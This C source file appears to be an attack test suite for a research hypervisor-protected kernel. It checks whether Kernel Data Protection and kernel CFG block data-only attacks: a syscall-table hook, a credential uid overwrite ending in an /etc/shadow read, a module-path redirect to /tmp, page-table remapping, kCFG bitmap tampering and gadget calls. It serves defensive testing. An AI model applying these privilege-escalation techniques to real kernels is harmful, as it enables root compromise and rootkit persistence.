/*
 * Data-only attacks (docs/attacks.md, family 9): no code is injected or patched; the attacker
 * overwrites data the kernel trusts (the system-call table, a credential template, the module path)
 * or the kCFG bitmap, or calls a gadget through a corrupted function pointer.
 *
 * KDP: VTL1 keeps registered objects read-only for VTL0 in the NPT (PROTECT_MEMORY), whatever VTL0's
 * page tables say; without it those objects sit in ordinary pool pages that the kernel maps RW.
 * kCFG: every indirect call of the kernel is checked against a bitmap of valid targets that VTL1 keeps
 * read-only.
 */
#include "vbs/user/ulib.h"

/* module.c */
void uk_become_root(void);
bool uk_streq(u64 addr, const char *s);
u64 uk_file_entry(u64 files_table, u64 n_files_addr, const char *path);
void uk_file_set(u64 entry, u64 field_off, u64 value);
/* inject.c */
u64 uk_pml4(void);
u64 uk_phys(u64 pml4, u64 va);
u64 uk_pte(u64 pml4, u64 va, int *level);

#define SYS_HIJACK 42 /* an unused system-call number */

/*
 * kdp-syscall-table: the classic rootkit system-call table hook (e.g. the Diamorphine LKM rootkit's
 * sys_call_table overwrite): point an entry at a kernel function of the attacker's choice.  The
 * table is a pool page the kernel maps RW; KDP makes it read-only in the NPT.  Here an unused number
 * is made to dispatch to sys_getpid (a valid kCFG target, so kCFG does not object: KDP is what
 * stands in the way).
 */
static int attack_kdp_syscall_table(const char *args)
{
    (void)args;
    u64 table = kread(ksym("syscall_table"));
    if (!table)
        attack_error("missing symbols");
    u64 target = kread(table + SYS_GETPID * 8);
    long before = usys(SYS_HIJACK, 0, 0, 0), pid = usys(SYS_GETPID, 0, 0, 0);
    u_printf("  attack: uid %ld; syscall %d = %ld; table at 0x%lx; slot %d <- 0x%lx (sys_getpid)\n", u_getuid(),
             SYS_HIJACK, before, table, SYS_HIJACK, target);
    if (before != -ENOSYS)
        attack_error("syscall %d already exists (%ld)", SYS_HIJACK, before);
    kwrite(table + SYS_HIJACK * 8, target); /* with KDP: GpaIntercept (write): #GP, we are killed */
    long after = usys(SYS_HIJACK, 0, 0, 0);
    if (kread(table + SYS_HIJACK * 8) == target && after == pid)
        attack_succeeded("system-call table entry %d now dispatches to 0x%lx: syscall %d returned %ld (getpid)",
                         SYS_HIJACK, target, SYS_HIJACK, after);
    attack_blocked("syscall %d = %ld", SYS_HIJACK, after);
}
UATTACK("kdp-syscall-table", attack_kdp_syscall_table);

/*
 * kdp-cred: overwrite the uid of the shared credential template every uid-1000 process points to
 * (the "overwrite cred->uid with 0" last step of many Linux privilege escalations once an arbitrary
 * write exists), instead of swapping the per-process pointer (which KDP does not cover here).
 */
static int attack_kdp_cred(const char *args)
{
    (void)args;
    u64 cred = kread(ksym("cred_user"));
    if (!cred)
        attack_error("missing symbols");
    u64 v = kread(cred); /* uid (u32), gid (u32) */
    u_printf("  attack: uid %ld; cred_user at 0x%lx: uid/gid 0x%lx -> 0\n", u_getuid(), cred, v);
    kwrite(cred, 0); /* with KDP: GpaIntercept (write): #GP, we are killed */
    long uid = u_getuid();
    char buf[8] = {0};
    long fd = u_open("/etc/shadow");
    long n = fd >= 0 ? u_read(fd, buf, 5) : fd;
    if (uid == 0 && n == 5 && !memcmp(buf, "root:", 5))
        attack_succeeded("credential template rewritten: getuid() = 0 and /etc/shadow is readable (\"%.*s...\")", 5,
                         buf);
    attack_blocked("uid %ld, /etc/shadow %ld", uid, n);
}
UATTACK("kdp-cred", attack_kdp_cred);

/*
 * kdp-module-dir: the modprobe_path overwrite (a standard last step of Linux exploits that have an
 * arbitrary write: the kernel then runs an attacker file as root): rewrite the string the kernel builds module paths from, "/lib/modules/", into "/tmp/",
 * a directory the attacker controls, so that the kernel loads its module from there.  Creating
 * /tmp/x.ko is an ordinary file write on a real system; this kernel's files are a table in
 * ro_after_init, so the attacker writes the entry through the physmap (an artefact of the guest, not
 * part of the attack: in the blocked run it is never reached).  The module is hello.ko's signed image:
 * HVCI is on in both runs, so only signed code loads from anywhere.
 */
static int attack_kdp_module_dir(const char *args)
{
    (void)args;
    u64 pml4 = uk_pml4(), dir = kread(ksym("module_dir")), ft = ksym("files_table"), nf = ksym("n_files");
    if (!dir || !ft || !nf)
        attack_error("missing symbols");
    uk_become_root();
    long before = u_init_module("x");
    u_printf("  attack: init_module(\"x\") = %ld (%s); module_dir at 0x%lx\n", before, "no /lib/modules/x.ko", dir);
    if (!uk_streq(dir, "/lib/modules/"))
        attack_error("module_dir is not \"/lib/modules/\"");
    u64 tmp;
    memcpy(&tmp, "/tmp/\0\0", 8);
    kwrite(dir, tmp); /* with KDP: GpaIntercept (write) on the registered page: #GP, we are killed */
    if (!uk_streq(dir, "/tmp/"))
        attack_blocked("module_dir unchanged");
    /* "create /tmp/x.ko": a file entry with the attacker's path, the content of a signed module */
    char *name = (char *)U_SCRATCH;
    memcpy(name, "/tmp/x.ko", 10);
    u64 name_pa = uk_phys(pml4, (u64)name); /* the kernel reads it through its identity map of the pool */
    u64 hello = uk_file_entry(ft, nf, "/lib/modules/hello.ko"), spare = uk_file_entry(ft, nf, "/lib/modules/unsigned.ko");
    if (!hello || !spare || name_pa == ~0ull)
        attack_error("file table entries not found");
    uk_file_set(spare, __builtin_offsetof(struct file, data), kread(hello + __builtin_offsetof(struct file, data)));
    uk_file_set(spare, __builtin_offsetof(struct file, size), kread(hello + __builtin_offsetof(struct file, size)));
    uk_file_set(spare, __builtin_offsetof(struct file, path), name_pa);
    long r = u_init_module("x");
    if (r == 0)
        attack_succeeded("module_dir rewritten to \"/tmp/\": init_module(\"x\") loaded /tmp/x.ko (was %ld)", before);
    attack_blocked("init_module(\"x\") = %ld after the overwrite", r);
}
UATTACK("kdp-module-dir", attack_kdp_module_dir);

/*
 * kdp-remap: KDP protects the physical page, not the translation to it.  Point the kernel's page-table
 * entry for the credential-template page at a copy in the attacker's own page (uid 0 in it): the
 * kernel keeps reading cred_user through the same virtual address and the same protected pointer.  No
 * write touches a protected page (VTL0's page tables are VTL0's).  The page-remapping attack that
 * Intel VT-rp/HLAT (Windows: Hypervisor-enforced Paging Translation, HVPT) exists to stop.  Not a
 * matrix row: it is NOT blocked (a finding, docs/attacks.md).
 */
static int attack_kdp_remap(const char *args)
{
    (void)args;
    u64 pml4 = uk_pml4(), cred = kread(ksym("cred_user"));
    if (!cred)
        attack_error("missing symbols");
    u64 page = cred & ~0xfffull;
    int level;
    u64 slot = uk_pte(pml4, page, &level);
    u8 *copy = (u8 *)U_SCRATCH;
    u64 copy_pa = uk_phys(pml4, (u64)copy);
    if (!slot || level != 1 || copy_pa == ~0ull)
        attack_error("cred page 0x%lx: PTE 0x%lx level %d", page, slot, level);
    memset(copy, 0, 4096);
    for (u64 o = 0; o < 2 * sizeof(struct cred); o += 8) /* the two templates: root, user */
        *(u64 *)(copy + o) = kread(page + o);
    struct cred *uc = (struct cred *)(copy + (cred - page));
    u_printf("  attack: uid %ld; cred_user 0x%lx (\"%s\", uid %u) on page 0x%lx, PTE at 0x%lx; copy at pa 0x%lx\n",
             u_getuid(), cred, uc->name, uc->uid, page, slot, copy_pa);
    uc->uid = uc->gid = 0;
    u64 e = kread(slot);
    kwrite(slot, (e & ~PTE_ADDR) | copy_pa);
    u_printf("  attack: PTE 0x%lx -> 0x%lx (the template page now translates to my copy)\n", e, kread(slot));
    /* The kernel may still hold the old translation in its TLB (it read cred_user for this very process).
     * A TLB is a cache, not a protection: any flush drops it.  Here a call of the credential service
     * (a VTL call: vtlvisor flushes VTL0's TLB on every VTL switch); on hardware, the next context switch
     * or enough memory traffic. */
    u8 *chal = copy + 2048, *mac = copy + 3072;
    memcpy(chal, "tlb", 3);
    usys(SYS_CRED_HMAC, (u64)chal, 3, (u64)mac);
    long uid = u_getuid();
    char buf[8] = {0};
    long fd = u_open("/etc/shadow");
    long n = fd >= 0 ? u_read(fd, buf, 5) : fd;
    if (uid == 0 && n == 5 && !memcmp(buf, "root:", 5))
        attack_succeeded("cred_user remapped to a forged copy: getuid() = 0 and /etc/shadow is readable (\"%.*s...\")",
                         5, buf);
    attack_blocked("uid %ld, /etc/shadow %ld", uid, n);
}
UATTACK("kdp-remap", attack_kdp_remap);

/* The gadget the kCFG attacks want to reach: gadget_read_mem returns *(u64 *)rdi.  Called on the
 * ro_after_init canary, it returns a value the attacker can check with its read primitive. */
static NORETURN void call_gadget(u64 gadget, u64 canary, const char *how)
{
    u64 want = kread(canary);
    u_printf("  attack: calling gadget_read_mem 0x%lx(0x%lx) through the driver's function pointer\n", gadget, canary);
    long r = kcall(gadget, canary); /* kCFG on, bit clear: "kcfg: blocked indirect call": we are killed */
    if ((u64)r == want)
        attack_succeeded("non-entry gadget 0x%lx ran through the kernel's indirect call%s (returned 0x%lx = *0x%lx)",
                         gadget, how, (u64)r, canary);
    attack_blocked("gadget returned 0x%lx, expected 0x%lx", (u64)r, want);
}

/*
 * kcfg-bitmap: make a gadget a valid call target by setting its bit in the kCFG bitmap (the attack on
 * CFG's own metadata, as "CFG bitmap overwrite" bypasses of Windows' user-mode CFG), then call it.
 * The bitmap is in the signed rodata, read-only in VTL0's page tables: the write goes through the
 * physmap alias.  VTL1 keeps the bitmap read-only in the NPT.
 */
static int attack_kcfg_bitmap(const char *args)
{
    (void)args;
    u64 gadget = ksym("gadget_read_mem"), ks = ksym("__kernel_start"), kb = ksym("__kcfg_start"),
        canary = ksym("kdp_canary");
    if (!gadget || !ks || !kb || !canary)
        attack_error("missing symbols");
    u64 i = (gadget - ks) / 16, byte = kb + __builtin_offsetof(struct vbs_kcfg, kernel) + i / 8;
    u64 w = byte & ~7ull, v = kread(w), bit = 1ull << (8 * (byte & 7) + i % 8);
    u_printf("  attack: uid %ld; kCFG bit of 0x%lx: byte 0x%lx bit %lu (word 0x%lx = 0x%lx)\n", u_getuid(), gadget, byte,
             i % 8, w, v);
    if (v & bit)
        attack_error("gadget is already a valid target");
    kwrite(PHYSMAP_BASE + w, v | bit); /* with VTL1: GpaIntercept (write) on the bitmap: #GP, we are killed */
    if (!(kread(w) & bit))
        attack_blocked("bitmap unchanged");
    call_gadget(gadget, canary, " after setting its bit in the kCFG bitmap");
}
UATTACK("kcfg-bitmap", attack_kcfg_bitmap);

/*
 * kcfg-remap: the remapping attack of kdp-remap on the kCFG bitmap: VTL1 keeps the bitmap's physical
 * page read-only, but the kernel finds it through its own page tables.  Point the entry for the
 * bitmap's first page at a copy (in the attacker's own page) with the gadget's bit set, then call the
 * gadget.  Not a matrix row: NOT blocked (a finding).
 */
static int attack_kcfg_remap(const char *args)
{
    (void)args;
    u64 pml4 = uk_pml4(), gadget = ksym("gadget_read_mem"), ks = ksym("__kernel_start"), kb = ksym("__kcfg_start"),
        kte = ksym("__ktext_end"), canary = ksym("kdp_canary");
    if (!gadget || !ks || !kb || !kte || !canary)
        attack_error("missing symbols");
    int level;
    u64 slot = uk_pte(pml4, kb, &level);
    u8 *copy = (u8 *)U_SCRATCH;
    u64 copy_pa = uk_phys(pml4, (u64)copy), used = ((kte - ks) / 128 + 7) & ~7ull, i = (gadget - ks) / 16;
    if (!slot || level != 1 || copy_pa == ~0ull || used > 4096 || i / 8 >= 4096)
        attack_error("bitmap 0x%lx: PTE 0x%lx level %d", kb, slot, level);
    memset(copy, 0, 4096);
    for (u64 o = 0; o < used; o += 8) /* the bits of the kernel text (nothing valid lies beyond) */
        *(u64 *)(copy + o) = kread(kb + o);
    copy[i / 8] |= (u8)(1u << (i % 8));
    u64 e = kread(slot);
    u_printf("  attack: uid %ld; bitmap page 0x%lx (PTE at 0x%lx) -> my copy at pa 0x%lx with the bit of 0x%lx set\n",
             u_getuid(), kb, slot, copy_pa, gadget);
    kwrite(slot, (e & ~PTE_ADDR) | copy_pa);
    u8 *chal = copy + 2048 + 1024, *mac = copy + 2048 + 1536; /* flush the stale translation (see kdp-remap) */
    if (used > 2048 + 1024)
        attack_error("bitmap copy too large");
    memcpy(chal, "tlb", 3);
    usys(SYS_CRED_HMAC, (u64)chal, 3, (u64)mac);
    call_gadget(gadget, canary, " after remapping the kCFG bitmap page");
}
UATTACK("kcfg-remap", attack_kcfg_remap);

/*
 * kcfg-gadget: call through a corrupted function pointer straight into a gadget that is not a function
 * entry (the first step of every JOP/COP chain; what kCFG, like Linux's kCFI/FineIBT, exists to stop).
 * The driver's CALL is the corrupted pointer.
 */
static int attack_kcfg_gadget(const char *args)
{
    (void)args;
    u64 gadget = ksym("gadget_read_mem"), canary = ksym("kdp_canary");
    if (!gadget || !canary)
        attack_error("missing symbols");
    call_gadget(gadget, canary, "");
}
UATTACK("kcfg-gadget", attack_kcfg_gadget);
